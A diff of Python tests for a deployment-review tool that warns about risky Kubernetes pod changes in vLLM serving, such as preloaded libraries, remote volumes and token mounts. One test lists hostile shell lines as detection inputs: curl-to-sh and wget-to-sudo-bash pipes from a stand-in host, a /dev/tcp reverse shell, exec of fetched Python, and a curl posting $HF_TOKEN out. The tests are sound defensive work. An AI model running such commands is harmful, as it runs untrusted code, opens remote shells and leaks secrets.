@@ -7,6 +7,11 @@ from copy import deepcopy
 from typing import Any
 
 import pytest
+from tests.review_rollout.conftest import TODAY
+
+from llmstack.review.assess import assess
+from llmstack.review.facts import Facts
+from llmstack.review.surroundings import Surroundings
 
 Object = dict[str, Any]
 Build = Callable[..., Object]
@@ -110,6 +115,8 @@ def test_an_account_that_is_made_here_is_not_told(review: Any, deployment: Build
         ({"runtimeClassName": "gvisor"}, {"runtimeClassName": None}, "ran in a sandbox (their `runtimeClassName`)"),
         ({"runtimeClassName": "nvidia"}, {"runtimeClassName": None}, ""),
         ({"hostUsers": None}, {"hostUsers": True}, ""),
+        ({"automountServiceAccountToken": False}, {}, "had no token of their account (`automountServiceAccountToken: false`)"),
+        ({}, {"automountServiceAccountToken": True}, ""),
     ],
 )  # fmt: skip
 def test_what_kept_pods_from_the_node_and_goes(
@@ -236,6 +243,16 @@ def test_what_a_first_environment_leads_elsewhere_is_told(
         ({}, {"env": [{"name": "LD_PRELOAD", "value": "/v/x.so"}]}, "`LD_PRELOAD`, by which they run what their image does not hold"),
         ({}, {"args": ["serve", "m", "--middleware", "a.b"]}, "`--middleware`, by which they run or show what callers or files bring"),
         ({}, {"args": ["serve", "m", "--allowed-local-media-path=/"]}, "`--allowed-local-media-path`, by which they run or show what callers or files bring"),
+        ({}, {"env": [{"name": "LD_PRELOAD", "valueFrom": {"secretKeyRef": {}}}]}, "`LD_PRELOAD`, by which they run what their image does not hold"),
+        ({}, {"env": [{"name": "VLLM_ALLOW_RUNTIME_LORA_UPDATING", "value": "True"}]}, "`VLLM_ALLOW_RUNTIME_LORA_UPDATING`, by which they run what their image does not hold"),
+        ({}, {"env": [{"name": "VLLM_ALLOW_RUNTIME_LORA_UPDATING", "value": "False"}]}, ""),
+        ({}, {"args": ["--distributed-executor-backend", "a.b.C"]}, "`--distributed-executor-backend`, by which they run or show what callers or files bring"),
+        ({}, {"args": ["--distributed-executor-backend", "mp", "--enable-sleep-mode"]}, ""),
+        ({}, {"args": ["--kv-transfer-config", '{"kv_connector_module_path": "a.b"}']}, "`kv_connector_module_path`, by which they run or show what callers or files bring"),
+        ({"volumes": [{"name": "v", "nfs": {"server": "a.example", "path": "/"}}]}, {}, "the files of `a.example` (`nfs`)"),
+        ({"volumes": [{"name": "v", "csi": {"driver": "a.example"}}]}, {}, "the files of `a.example` (`csi`)"),
+        ({"volumes": [{"name": "v", "emptyDir": {}}, {"name": "w", "nfs": 5}, {"name": "u", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}}]}, {}, ""),
+        ({"volumes": [{"name": "v", "projected": {"sources": [{"serviceAccountToken": {"audience": "vault"}}]}}]}, {}, "a token of their account for `vault` (`serviceAccountToken`)"),
         ({}, {"env": [{"name": "HF_HOME", "value": "/v"}, {"name": "VLLM_SERVER_DEV_MODE", "value": "0"}]}, ""),
         ({}, {"args": ["serve", "m", "--middleware-x", "a.b"]}, ""),
         ({"hostAliases": 5, "dnsConfig": [1], "volumes": [{"name": "g", "gitRepo": 5}]}, {"env": {"a": "b"}}, ""),
@@ -251,6 +268,131 @@ def test_what_sends_pods_elsewhere_is_told_once(
     other = deployment("other")
     assert not _told(review((other, _with(other, pod, **container)), stays=[led])), "others did so before"
     assert not _told(review((led, plain)))
+
+
+_RUNS = "a command that runs what it fetches"
+_FETCHES = "what `a.example` answers to their commands"
+
+
+@pytest.mark.parametrize(
+    ("script", "said"),
+    [
+        ("curl -s https://a.example/x | sh; vllm serve m", [_RUNS, _FETCHES]),
+        ("wget -qO- a.example/x | sudo bash", [_RUNS, _FETCHES]),
+        ("bash <(curl https://u:p@a.example/x)", [_RUNS, _FETCHES]),
+        ('eval "$(curl -fsSL https://a.example/x)"', [_RUNS, _FETCHES]),
+        ("curl https://huggingface.co/x | sh", [_RUNS]),
+        ("bash -i >& /dev/tcp/192.0.2.1/4 0>&1", [_RUNS]),
+        ("python3 -c \"exec(urlopen('https://a.example/x').read())\"", [_RUNS, _FETCHES]),
+        ("pip install git+https://a.example/x.git", [_FETCHES]),
+        ("pip install --index-url http://a.example/simple x", [_FETCHES]),
+        ("curl -d $HF_TOKEN https://a.example", [_FETCHES]),
+        ("curl -o model.tar/x http://localhost:8000/health", []),
+        ("curl -X POST http://127.0.0.1:8000/drain; sleep 10", []),
+        ("curl http://router:80/v1/models http://r.llm.svc.cluster.local/v1 http://r.llm.svc:80", []),
+        ("pip install vllm[audio]==0.11.0 -r requirements.txt", []),
+        ("hf download a/b; git --version; vllm serve m --otlp-traces-endpoint https://a.example", []),
+        ("timeout 1 bash -c '</dev/tcp/localhost/8000'", []),
+        ("curl " * 20_000, []),
+    ],
+)
+@pytest.mark.parametrize(
+    "where",
+    [
+        lambda words: {"command": words},
+        lambda words: {"lifecycle": {"postStart": {"exec": {"command": words}}}},
+        lambda words: {"livenessProbe": {"exec": {"command": words}}},
+    ],
+)
+def test_what_commands_fetch_and_run(
+    script: str, said: list[str], where: Callable[[list[str]], Object], review: Any, deployment: Build
+) -> None:
+    plain = deployment(surge=0, unavailable=1)
+    fetching = _with(plain, **where(["sh", "-c", script]))
+    expected = [("warning", f"its pods get {', '.join(said)}")] if said else []
+    assert _told(review((plain, fetching))) == expected
+    assert not _told(review((fetching, _with(fetching, {"priorityClassName": "high"})))), "they did so before"
+
+
+@pytest.mark.parametrize("environment", ["other", None])
+def test_a_new_environment_beside_others_is_told_what_none_of_them_does(
+    environment: str | None, change: Any, deployment: Build
+) -> None:
+    led = _with(deployment(), env=[{"name": "HF_ENDPOINT", "value": "https://a.example"}], image="b.example/x")
+    there = ((environment, deployment("other")),) if environment else ()
+    known = Facts()
+    result = assess([change(None, led)], [], [led], known, known, TODAY, near=Surroundings(objects=there))
+    assert len(_told(result)) == (2 if environment else 0)
+    same = Surroundings(
+        objects=tuple(
+            (name, _with(obj, env=led["spec"]["template"]["spec"]["containers"][0]["env"])) for name, obj in there
+        )
+    )
+    assert len(_told(assess([change(None, led)], [], [led], known, known, TODAY, near=same))) == (
+        1 if environment else 0
+    )
+
+
+def _media(*domains: str) -> list[str]:
+    return ["serve", "m", *(("--allowed-media-domains", *domains) if domains else ()), "--port", "8000"]
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "hosts"),
+    [
+        (["a.example"], ["a.example", "b.example"], "b.example"),
+        (["a.example"], [], "every host"),
+        (["a.example", "b.example"], ["a.example"], ""),
+        ([], ["a.example"], ""),
+    ],
+)
+def test_hosts_that_callers_may_have_an_engine_fetch_from(
+    before: list[str], after: list[str], hosts: str, review: Any, deployment: Build
+) -> None:
+    pods = (_with(deployment(), args=_media(*each)) for each in (before, after))
+    said = f"callers may have it fetch from {hosts} too (`--allowed-media-domains`)"
+    assert _told(review(tuple(pods))) == ([("warning", said)] if hosts else [])
+
+
+_STORES = "external-secrets.io/v1"
+
+
+def _secret_of(store: str, **spec: Any) -> Object:
+    return _item("ExternalSecret", _STORES, spec={"secretStoreRef": {"name": store}, **spec})
+
+
+def _store(kind: str = "SecretStore", **provider: Any) -> Object:
+    return _item(kind, _STORES, spec={"provider": provider})
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "said"),
+    [
+        (_secret_of("a"), _secret_of("b"), "what it brings comes from elsewhere: SecretStore `b`"),
+        (_secret_of("a"), _secret_of("a", data=[{"sourceRef": {"storeRef": {"name": "b"}}}]), "what it brings comes from elsewhere: SecretStore `b`"),
+        (_secret_of("a"), _secret_of("a", refreshInterval="1h"), ""),
+        (None, _secret_of("a"), ""),
+        (_store(vault={"server": "a"}), _store(vault={"server": "b"}), "what it brings comes from elsewhere: `vault` (server: b)"),
+        (_store("ClusterSecretStore", aws={}), _store("ClusterSecretStore", gcpsm={}), "what it brings comes from elsewhere: `gcpsm` ()"),
+        (None, _store(vault={"server": "a"}), ""),
+        (None, _store(webhook={"url": "a"}), "what secrets are is asked of `a` (webhook)"),
+        (None, _item("ClusterExternalSecret", _STORES), "it makes Secrets, or sends them on, in every namespace that it selects"),
+        (
+            _item("PersistentVolume", "v1", spec={"nfs": {"server": "a", "path": "/"}}),
+            _item("PersistentVolume", "v1", spec={"nfs": {"server": "b", "path": "/"}}),
+            "what it brings comes from elsewhere: the files of `b` (`nfs`)",
+        ),
+        (
+            _item("PersistentVolume", "v1", spec={"nfs": {"server": "a", "path": "/"}}),
+            _item("PersistentVolume", "v1", spec={"nfs": {"server": "a", "path": "/b"}}),
+            "",
+        ),
+    ],
+)  # fmt: skip
+def test_where_secrets_and_files_come_from(
+    before: Object | None, after: Object, said: str, review: Any, deployment: Build
+) -> None:
+    assert _told(review((before, after), stays=[deployment()])) == ([("warning", said)] if said else [])
 
 
 _ASKING = _item(
